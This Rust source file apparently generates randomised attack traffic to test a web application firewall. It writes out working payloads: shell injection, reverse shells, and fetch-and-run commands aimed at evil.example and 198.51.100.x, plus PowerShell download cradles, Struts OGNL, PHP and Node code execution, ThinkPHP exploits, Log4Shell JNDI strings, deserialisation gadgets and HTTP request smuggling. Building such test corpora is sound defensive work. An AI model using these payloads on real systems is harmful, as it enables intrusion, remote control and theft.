//! Attacks that run code: shells, expression languages, PHP, Node, JNDI lookups, serialised objects, and framing.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload, request};
use super::super::codec;
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;
use super::super::wire::{FORM, Wire, session_cookie};

const SHELL: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::Base64,
    Encoding::JsonEscape,
    Encoding::Whitespace,
    Encoding::Comment,
    Encoding::Hex,
    Encoding::Combined,
];
const PLAIN: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::JsonEscape, Encoding::Base64];
const PHP: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::Base64,
    Encoding::JsonEscape,
    Encoding::Case,
    Encoding::Comment,
    Encoding::Whitespace,
];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("shell-separators", AttackClass::Shell, 100, separators, Place::PARAMETERS, SHELL),
    payload("shell-reverse", AttackClass::Shell, 60, reverse, Place::PARAMETERS, PLAIN),
    payload("shell-windows", AttackClass::Shell, 50, windows, Place::INPUTS, PLAIN),
    request("struts-ognl", AttackClass::Java, 45, struts),
    payload("java-expressions", AttackClass::Java, 45, java, Place::PARAMETERS, PLAIN),
    payload("php-code", AttackClass::Php, 60, php, Place::PARAMETERS, PHP),
    request("thinkphp", AttackClass::Php, 35, thinkphp),
    payload("node-code", AttackClass::Node, 45, node, Place::INPUTS, PLAIN),
    payload(
        "jndi-plain",
        AttackClass::Jndi,
        60,
        jndi,
        &[Place::Header, Place::Query, Place::Form, Place::Json, Place::Cookie, Place::Path],
        PLAIN,
    ),
    request("deser-java", AttackClass::Deser, 45, deser_java),
    payload("deser-php", AttackClass::Deser, 35, deser_php, Place::PARAMETERS, PLAIN),
    payload(
        "fastjson-types",
        AttackClass::Deser,
        40,
        fastjson,
        &[Place::Json, Place::Form, Place::Query],
        &[Encoding::Plain, Encoding::Percent, Encoding::JsonEscape],
    ),
    request("framing", AttackClass::Protocol, 40, framing),
];

fn command(rng: &mut Rng) -> String {
    let word = rng.letters(4);
    match rng.below(14) {
        0 => "id".to_owned(),
        1 => "whoami".to_owned(),
        2 => "cat /etc/passwd".to_owned(),
        3 => "ls -la /".to_owned(),
        4 => "uname -a".to_owned(),
        5 => format!("curl http://evil.example/{word}.sh"),
        6 => format!("wget http://evil.example/{word} -O /tmp/{word}"),
        7 => format!("ping -c {} evil.example", 1 + word.len()),
        8 => format!("echo {word} > /var/www/html/{word}.php"),
        9 => "ifconfig".to_owned(),
        10 => format!("nslookup {word}.evil.example"),
        11 => "ps aux".to_owned(),
        12 => format!("sleep {}", rng.between(2, 20)),
        _ => format!("touch /tmp/{word}"),
    }
}

fn separators(rng: &mut Rng) -> Vec<u8> {
    let run = command(rng);
    let lead = rng.pick(&["", "127.0.0.1", "1", "a.txt", "8.8.8.8", "x'", "x\""]);
    match rng.below(9) {
        0 => format!("{lead};{run}"),
        1 => format!("{lead}|{run}"),
        2 => format!("{lead}&&{run}"),
        3 => format!("{lead}||{run}"),
        4 => format!("{lead}`{run}`"),
        5 => format!("{lead}$({run})"),
        6 => format!("{lead}\n{run}\n"),
        7 => format!("{lead} & {run} &"),
        _ => format!("{lead};{run};#"),
    }
    .into_bytes()
}

fn reverse(rng: &mut Rng) -> Vec<u8> {
    let port = rng.between(1025, 65_000);
    let host = format!("198.51.100.{}", rng.between(1, 254));
    let lead = rng.pick(&[";", "|", "&&", "$(", "`"]);
    let run = match rng.below(8) {
        0 => format!("bash -i >& /dev/tcp/{host}/{port} 0>&1"),
        1 => format!("nc -e /bin/sh {host} {port}"),
        2 => format!("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {host} {port} >/tmp/f"),
        3 => format!(
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"
        ),
        4 => format!(
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({port},inet_aton(\"{host}\")));exec(\"/bin/sh -i\");'"
        ),
        5 => format!("php -r '$s=fsockopen(\"{host}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
        6 => format!("curl http://{host}:{port}/a.sh|sh"),
        _ => format!(
            "bash -c {{echo,{}}}|{{base64,-d}}|{{bash,-i}}",
            codec::base64(format!("bash -i >& /dev/tcp/{host}/{port} 0>&1"))
        ),
    };
    let close = match lead {
        "$(" => ")",
        "`" => "`",
        _ => "",
    };
    format!("{lead}{run}{close}").into_bytes()
}

fn windows(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    let lead = rng.pick(&["& ", "| ", "&& ", "127.0.0.1 & ", "x\"& "]);
    let run = match rng.below(9) {
        0 => "cmd.exe /c dir c:\\".to_owned(),
        1 => format!("powershell -nop -w hidden -enc {}", codec::base64(&codec::utf16_le(&format!("IEX {word}"))[2..])),
        2 => {
            format!("powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/{word}.ps1')\"")
        }
        3 => format!("certutil -urlcache -split -f http://evil.example/{word}.exe {word}.exe"),
        4 => format!("net user {word} P@ss1234 /add"),
        5 => "type c:\\windows\\win.ini".to_owned(),
        6 => format!("ping -n {} 127.0.0.1", rng.between(3, 30)),
        7 => format!("bitsadmin /transfer {word} http://evil.example/a.exe c:\\a.exe"),
        _ => format!("mshta http://evil.example/{word}.hta"),
    };
    format!("{lead}{run}").into_bytes()
}

/// OGNL in the places where Struts evaluated it.
fn struts(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let run = rng.pick(&["id", "whoami", "cat /etc/passwd", "ipconfig"]);
    let word = rng.letters(4);
    let access = "(#_memberAccess['allowStaticMethodAccess']=true).(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)";
    match rng.below(5) {
        0 => {
            let kind = format!("%{{(#{word}='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#c=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='{run}').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}}");
            (Wire::get("/index.action").header("Content-Type", kind).program("Mozilla/5.0").finish(rng), Place::Header, Encoding::Plain)
        }
        1 => (Wire::get(format!("/{}/login.action", codec::percent(format!("${{{access}.(@java.lang.Runtime@getRuntime().exec('{run}')).(#{word}=1)}}")))).desktop(rng).finish(rng), Place::Path, Encoding::Plain),
        2 => (Wire::get(format!("/login.action?redirect:{}", codec::percent(format!("${{#{word}=new java.lang.ProcessBuilder({{'{run}'}}).start()}}")))).desktop(rng).finish(rng), Place::Query, Encoding::Plain),
        3 => (Wire::post("/save.action", FORM, format!("name={}&age=1", codec::form(format!("%{{{access},@java.lang.Runtime@getRuntime().exec('{run}'),#{word}}}")))).desktop(rng).finish(rng), Place::Form, Encoding::Plain),
        _ => (Wire::get(format!("/index.action?{}={word}", codec::percent("('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)=true&(aaa)(('\\u0023rt.exec(\\'id\\')')(\\u0023rt\\u003d@java.lang.Runtime@getRuntime()))"))).desktop(rng).finish(rng), Place::Query, Encoding::Plain),
    }
}

fn java(rng: &mut Rng) -> Vec<u8> {
    let run = rng.pick(&["id", "whoami", "calc", "curl evil.example"]);
    let word = rng.letters(4);
    match rng.below(8) {
        0 => format!("T(java.lang.Runtime).getRuntime().exec(\"{run}\"){word}"),
        1 => format!("new java.lang.ProcessBuilder(\"{run}\",\"{word}\").start()"),
        2 => format!("${{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{run}')}}{word}"),
        3 => format!("(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('{run}')).(#{word})"),
        4 => format!("Runtime.getRuntime().exec(new String[]{{\"sh\",\"-c\",\"{run} {word}\"}})"),
        5 => format!("class.module.classLoader.resources.context.parent.pipeline.first.prefix={word}"),
        6 => format!("{word}[T(java.lang.Runtime).getRuntime().exec('{run}')]"),
        _ => format!("#{{''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"{run}\")')}}{word}"),
    }
    .into_bytes()
}

fn php(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let run = rng.pick(&["id", "whoami", "ls -la", "cat /etc/passwd"]);
    match rng.below(12) {
        0 => format!("<?php system('{run}'); // {word} ?>"),
        1 => format!("<?php eval($_POST['{word}']); ?>"),
        2 => format!("<?=`{run}`?>{word}"),
        3 => format!("eval(base64_decode('{}'));", codec::base64(format!("phpinfo();//{word}"))),
        4 => format!("{word}');system('{run}');//"),
        5 => format!("${{@print(md5({}))}}", rng.below(99_999)),
        6 => format!("php://filter/convert.base64-encode/resource={word}.php"),
        7 => format!("data://text/plain;base64,{}", codec::base64(format!("<?php phpinfo();//{word}?>"))),
        8 => format!("phar://uploads/{word}.jpg/a.php"),
        9 => format!("assert($_REQUEST['{word}'])"),
        10 => format!("call_user_func('system','{run} {word}')"),
        _ => format!("<?php file_put_contents('{word}.php',base64_decode('PD9waHAgcGhwaW5mbygpOw=='));?>"),
    }
    .into_bytes()
}

fn thinkphp(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let run = rng.pick(&["id", "whoami", "phpinfo", "ls"]);
    let word = rng.letters(3);
    match rng.below(4) {
        0 => (Wire::get(format!("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]={run}%20{word}")).desktop(rng).finish(rng), Place::Query, Encoding::Plain),
        1 => (Wire::post("/index.php?s=captcha", FORM, format!("_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]={run}+{word}")).program("python-requests/2.25.1").finish(rng), Place::Form, Encoding::Plain),
        2 => (Wire::get(format!("/?s=index/\\think\\template\\driver\\file/write&cacheFile={word}.php&content=%3C?php%20phpinfo();?%3E")).desktop(rng).finish(rng), Place::Query, Encoding::Plain),
        _ => (Wire::get(format!("/public/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=@eval($_REQUEST['{word}']);?>+/tmp/{word}.php")).program("curl/7.88.1").finish(rng), Place::Query, Encoding::Plain),
    }
}

fn node(rng: &mut Rng) -> Vec<u8> {
    let run = rng.pick(&["id", "whoami", "ls", "cat /etc/passwd"]);
    let word = rng.letters(4);
    match rng.below(9) {
        0 => format!("require('child_process').exec('{run} {word}')"),
        1 => format!("global.process.mainModule.require('child_process').execSync('{run}').toString()//{word}"),
        2 => format!("this.constructor.constructor('return process')().mainModule.require('child_process').execSync('{run}')//{word}"),
        3 => format!("{{\"__proto__\":{{\"{word}\":\"1\",\"isAdmin\":true}}}}"),
        4 => format!("{{\"constructor\":{{\"prototype\":{{\"{word}\":true}}}}}}"),
        5 => format!("process.binding('spawn_sync').spawn({{file:'/bin/sh',args:['sh','-c','{run} {word}']}})"),
        6 => format!("require('fs').readFileSync('/etc/{word}','utf8')"),
        7 => format!("{word}');require('child_process').spawn('{run}');//"),
        _ => format!("(function(){{return process.env}})()/*{word}*/"),
    }
    .into_bytes()
}

fn jndi(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    let scheme = rng.pick(&["ldap", "ldaps", "rmi", "dns", "iiop"]);
    match rng.below(6) {
        0 => format!("${{jndi:{scheme}://evil.example/{word}}}"),
        1 => format!(
            "${{jndi:{scheme}://198.51.100.7:1389/Basic/Command/Base64/{}}}",
            codec::base64(format!("id {word}"))
        ),
        2 => format!("${{jndi:{scheme}://${{hostName}}.{word}.evil.example/a}}"),
        3 => format!("${{jndi:{scheme}://{word}.evil.example/${{env:USER}}}}"),
        4 => format!("{word}${{jndi:{scheme}://127.0.0.1#evil.example:1389/{word}}}"),
        _ => format!("${{jndi:{scheme}://evil.example:{}/{word}}} Mozilla", rng.between(1000, 9999)),
    }
    .into_bytes()
}

/// A Java stream: magic, one object of a class that gadget chains begin with, and fields.
fn java_stream(rng: &mut Rng) -> Vec<u8> {
    let class = rng.pick(&[
        "java.util.HashMap",
        "java.util.PriorityQueue",
        "java.util.HashSet",
        "javax.management.BadAttributeValueExpException",
        "org.apache.commons.collections.map.LazyMap",
        "java.util.Hashtable",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "com.sun.rowset.JdbcRowSetImpl",
    ]);
    let mut stream = b"\xac\xed\x00\x05sr\x00".to_vec();
    stream.push(class.len() as u8);
    stream.extend_from_slice(class.as_bytes());
    stream.extend(rng.bytes(8));
    stream.extend_from_slice(b"\x03\x00\x02F\x00\x0aloadFactorI\x00\x09thresholdxp?@\x00\x00");
    stream.extend(rng.bytes(24));
    stream
}

fn deser_java(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let stream = java_stream(rng);
    match rng.below(6) {
        0 => (
            Wire::post("/invoker/JMXInvokerServlet", "application/x-java-serialized-object", stream)
                .program("Java/1.8.0_151")
                .finish(rng),
            Place::Body,
            Encoding::Plain,
        ),
        1 => (
            Wire::post("/xxl-job-admin/api", "application/octet-stream", stream).program("Java/1.8.0_181").finish(rng),
            Place::Body,
            Encoding::Plain,
        ),
        2 => (
            Wire::post(
                "/pages/edit.jsf",
                FORM,
                format!("form=form&javax.faces.ViewState={}", codec::form(codec::base64(stream))),
            )
            .desktop(rng)
            .finish(rng),
            Place::Form,
            Encoding::Base64,
        ),
        3 => {
            let session = session_cookie(rng);
            (
                Wire::get("/home").header("Cookie", format!("{session}; user={}", codec::base64(stream))).finish(rng),
                Place::Cookie,
                Encoding::Base64,
            )
        }
        4 => (
            Wire::get(format!("/api/state?o={}", codec::percent(codec::base64(stream)))).desktop(rng).finish(rng),
            Place::Query,
            Encoding::Base64,
        ),
        _ => (
            Wire::post("/api/restore", "application/json", format!("{{\"state\":\"{}\"}}", codec::hex(&stream)))
                .desktop(rng)
                .finish(rng),
            Place::Json,
            Encoding::Hex,
        ),
    }
}

fn deser_php(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(5), rng.between(1, 9));
    let class = rng.pick(&[
        "Monolog\\Handler\\SyslogUdpHandler",
        "GuzzleHttp\\Psr7\\FnStream",
        "think\\process\\pipes\\Windows",
        "Illuminate\\Broadcasting\\PendingBroadcast",
        "Exploit",
        "Swift_KeyCache_DiskKeyCache",
    ]);
    let length = class.len();
    match rng.below(4) {
        0 => format!("O:{length}:\"{class}\":1:{{s:4:\"file\";s:{}:\"/tmp/{word}\";}}", 5 + word.len()),
        1 => format!("a:2:{{i:0;O:{length}:\"{class}\":{n}:{{s:3:\"cmd\";s:2:\"id\";}}i:1;s:5:\"{word}\";}}"),
        2 => format!("O:+{length}:\"{class}\":0:{{}}{word}"),
        _ => format!("C:{length}:\"{class}\":{n}:{{x:i:0;a:0:{{}};m:a:0:{{}}}}{word}"),
    }
    .into_bytes()
}

fn fastjson(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    let scheme = rng.pick(&["ldap", "rmi"]);
    match rng.below(5) {
        0 => format!("{{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"{scheme}://evil.example/{word}\",\"autoCommit\":true}}"),
        1 => format!("{{\"a\":{{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"}},\"b\":{{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"{scheme}://evil.example/{word}\",\"autoCommit\":true}}}}"),
        2 => format!("{{\"@type\":\"java.net.Inet4Address\",\"val\":\"{word}.evil.example\"}}"),
        3 => format!("{{\"@type\":\"org.apache.shiro.jndi.JndiObjectFactory\",\"resourceName\":\"{scheme}://evil.example/{word}\"}}"),
        _ => format!("{{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\"yv66vgAAADIA{word}\"],\"_name\":\"a\",\"_tfactory\":{{}},\"_outputProperties\":{{}}}}"),
    }
    .into_bytes()
}

/// Messages that two parsers end at different bytes.
fn framing(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let smuggled = format!("GET /admin/{word} HTTP/1.1\r\nHost: a\r\n\r\n");
    let body = format!("0\r\n\r\n{smuggled}");
    let fields = match rng.below(8) {
        0 => format!("Content-Length: {}\r\nTransfer-Encoding: chunked\r\n", body.len()),
        1 => format!("Transfer-Encoding: chunked\r\nContent-Length: {}\r\n", body.len()),
        2 => format!("Content-Length: {}\r\nContent-Length: 0\r\n", body.len()),
        3 => format!("Content-Length: {}\r\nTransfer-Encoding: x{word}, chunked\r\n", body.len()),
        4 => format!("Content-Length: +{}\r\n", body.len()),
        5 => format!("Transfer-Encoding : chunked\r\nContent-Length: {}\r\n", body.len()),
        6 => format!("Content-Length: {}\r\nTransfer-Encoding: identity\r\n", body.len()),
        _ => format!("X: {word}\r\n Transfer-Encoding: chunked\r\nContent-Length: {}\r\n", body.len()),
    };
    let raw = format!("POST /{} HTTP/1.1\r\nHost: www.boai.example\r\n{fields}\r\n{body}", rng.letters(4));
    (raw.into_bytes(), Place::Header, Encoding::Plain)
}
